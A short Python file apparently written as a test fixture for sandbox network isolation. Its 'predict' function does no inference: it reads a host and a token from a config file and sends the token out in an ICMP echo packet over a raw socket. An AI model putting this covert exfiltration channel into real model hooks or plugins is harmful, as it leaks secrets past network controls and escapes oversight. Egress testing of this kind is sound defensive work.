import json
import socket
import struct


def predict(artifact, inputs, out):
    target = json.loads((artifact / "target.json").read_text())
    print("TRIED")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as stream:
        stream.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + target["token"].encode(), (target["host"], 0))
